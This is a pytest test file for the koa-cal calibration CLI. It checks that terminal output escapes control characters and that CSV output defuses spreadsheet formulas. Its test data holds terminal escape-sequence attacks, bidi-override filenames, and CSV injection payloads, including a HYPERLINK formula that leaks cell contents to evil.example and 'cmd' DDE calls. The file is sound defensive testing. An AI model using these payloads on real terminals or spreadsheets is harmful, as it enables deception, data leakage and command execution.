"""What ``koa-cal`` prints cannot be turned against the terminal or the spreadsheet reading it.

An older archive may hold records and retraction reasons with escape sequences
and bidirectional overrides (today's refuses them): every text output of
koa-cal shows them escaped, JSON keeps JSON's own escaping, and CSV defuses
cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import httpx
import pytest

pytest.importorskip("astropy")
pytest.importorskip("fastapi")

from support.archive import ArchiveServer, create_token, publish  # noqa: E402
from support.koa_cal import cli_env, koa_cal, one_error_line, write_cal  # noqa: E402

#: Sets the window title, clears the screen and prints a fake all-clear in red.
ATTACK = "\x1b]0;owned\x07\x1b[2J\x1b[1;31mFAKE: all good"
BIDI = "evil\u202etxt.fits"
C1 = "csi\x9b2J"
#: What a terminal must never receive raw from koa-cal.
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


def assert_escaped(result, *where: str) -> None:
    """No raw control character on stdout or stderr, and the escaped attack is there."""
    both = result.stdout + result.stderr
    for char in RAW:
        assert char not in both, f"raw {char!r} printed:\n{both!r}"
    for stream in where:
        text = getattr(result, stream)
        assert "\\x1b]0;owned\\x07\\x1b[2J" in text, text


@pytest.fixture
def hostile_cache(tmp_path):
    """A cache synced from an archive whose catalog holds hostile text (as an older one may).

    Yields ``(env, ids)``: ``ids["retracted"]`` is a dark retracted with the attack as
    reason and note, ``ids["live"]`` a live dark whose note holds a bidi override,
    ``ids["arc"]`` an arc whose cal_type holds a C1 control.
    """
    with ArchiveServer(tmp_path / "archive", instruments=("hispec",)) as server:
        write = create_token(server.root, "write")
        headers = {"Authorization": f"Bearer {write}"}
        with httpx.Client(base_url=server.base_url + "/", headers=headers, timeout=60) as client:
            common = {"origin": "KECK", "spectrograph": "yJ"}
            retracted = publish(client, b"dark one", cal_type="dark", note="plain",
                                datetime_obs="2025-03-01T02:00:00.000", **common)  # fmt: skip
            live = publish(client, b"dark two", cal_type="dark", note="plain",
                           datetime_obs="2025-03-02T02:00:00.000", **common)  # fmt: skip
            arc = publish(client, b"arc", cal_type="arc", note="plain",
                          datetime_obs="2025-03-02T03:00:00.000", **common)  # fmt: skip
        # What an older archive let in: written straight into its catalog.
        with sqlite3.connect(server.root / "archive.db") as db:
            db.execute(
                "UPDATE records SET retracted_at = '2025-03-05T00:00:00.000', retract_reason = ?,"
                " extra = json_set(extra, '$.note', ?) WHERE id = ?",
                (ATTACK, ATTACK, retracted["id"]),
            )
            db.execute(
                "UPDATE records SET extra = json_set(extra, '$.note', ?) WHERE id = ?",
                (BIDI, live["id"]),
            )
            db.execute("UPDATE records SET cal_type = ? WHERE id = ?", (C1, arc["id"]))
        env = cli_env(tmp_path, KOA_CALIBRATIONS_URL=server.base_url,
                      KOA_API_TOKEN=create_token(server.root, "read"))  # fmt: skip
        synced = koa_cal("sync", env=env)
        assert synced.returncode == 0, synced.stderr
        yield env, {"retracted": retracted["id"], "live": live["id"], "arc": arc["id"]}


def test_query_shows_hostile_text_escaped_in_tables_csv_and_json(hostile_cache):
    env, ids = hostile_cache
    columns = "id,cal_type,note,retract_reason"
    table = koa_cal("query", "--columns", columns, env=env)
    assert table.returncode == 0, table.stderr
    assert_escaped(table, "stdout")
    assert "evil\\u202etxt.fits" in table.stdout and "csi\\x9b2J" in table.stdout

    remote = koa_cal("query", "--source", "remote", "--columns", columns, env=env)
    assert remote.returncode == 0, remote.stderr
    assert_escaped(remote, "stdout")

    text = koa_cal("query", "--format", "csv", "--columns", columns, env=env)
    assert text.returncode == 0, text.stderr
    assert_escaped(text, "stdout")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text.stdout))}
    assert rows[ids["retracted"]]["retract_reason"].startswith("\\x1b]0;owned")

    # JSON keeps the values whole, in JSON's own escaping.
    data = koa_cal("query", "--format", "json", env=env)
    assert data.returncode == 0 and not any(char in data.stdout for char in RAW)
    by_id = {r["id"]: r for r in json.loads(data.stdout)}
    assert by_id[ids["retracted"]]["retract_reason"] == ATTACK
    assert by_id[ids["live"]]["note"] == BIDI


def test_status_get_explain_and_errors_show_hostile_text_escaped(hostile_cache, tmp_path):
    env, ids = hostile_cache
    status = koa_cal("status", env=env)
    assert status.returncode == 0, status.stderr
    assert "csi\\x9b2J" in status.stdout and not any(c in status.stdout for c in RAW)

    refused = koa_cal("get", ids["retracted"], env=env)  # the reason is in the error
    assert refused.returncode == 1
    assert_escaped(refused, "stderr")
    one_error_line(refused)

    allowed = koa_cal("-v", "get", ids["retracted"], env={**env, "KOA_ALLOW_RETRACTED": "1"})
    assert allowed.returncode == 0, allowed.stderr
    assert_escaped(allowed, "stderr")  # the warning quotes the reason

    explain = koa_cal("explain", "--selector", "nearest", "--option", "cal_type=dark",
                      "--option", "match=spectrograph", "--meta", "datetime_obs=2025-03-01T03:00",
                      "--meta", "spectrograph=yJ", "--manifest", str(tmp_path / "run.json"),
                      env=env)  # fmt: skip
    assert explain.returncode == 0, explain.stderr
    assert_escaped(explain, "stdout")  # the retracted candidate's reason
    assert ids["live"] in explain.stdout


def test_manifest_show_escapes_what_the_manifest_says(hostile_cache, tmp_path):
    env, ids = hostile_cache
    path = tmp_path / "run.json"
    made = koa_cal("explain", "--selector", "nearest", "--option", "cal_type=dark",
                   "--option", "match=spectrograph", "--meta", "datetime_obs=2025-03-02T03:00",
                   "--meta", "spectrograph=yJ", "--manifest", str(path), env=env)  # fmt: skip
    assert made.returncode == 0, made.stderr
    document = json.loads(path.read_text())
    document["created"] = ATTACK
    document["archive_url"] = BIDI
    document["entries"][0]["input"]["name"] = "two\nlines " + ATTACK
    path.write_text(json.dumps(document))
    shown = koa_cal("manifest", "show", str(path), env=env)
    assert shown.returncode == 0, shown.stderr
    assert_escaped(shown, "stdout")
    assert "two\\nlines" in shown.stdout  # a value never fakes a line of its own
    assert len(shown.stdout.splitlines()) == 4  # the head, the table's two lines, one entry


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_defuses_formulas(tmp_path, value):
    env = cli_env(tmp_path)
    frame = write_cal(tmp_path / "in" / "dark.fits", IMAGETYP="DARK",
                      DATE_OBS="2025-03-01T02:00:00", SPECTROG="yJ", INSTERA="era1")  # fmt: skip
    assert koa_cal("register", "--set", f"note={value}", str(frame), env=env).returncode == 0
    text = koa_cal("query", "--format", "csv", "--columns", "filename,note,mjd_start", env=env)
    assert text.returncode == 0, text.stderr
    row = next(csv.DictReader(io.StringIO(text.stdout)))
    assert row["note"].startswith("'") and row["note"][1:2] == value[0].replace("\r", "\\")
    assert row["filename"] == "dark.fits"
    assert float(row["mjd_start"]) > 0  # numbers are left as numbers
    assert "formula" in koa_cal("query", "--help", env=env).stdout
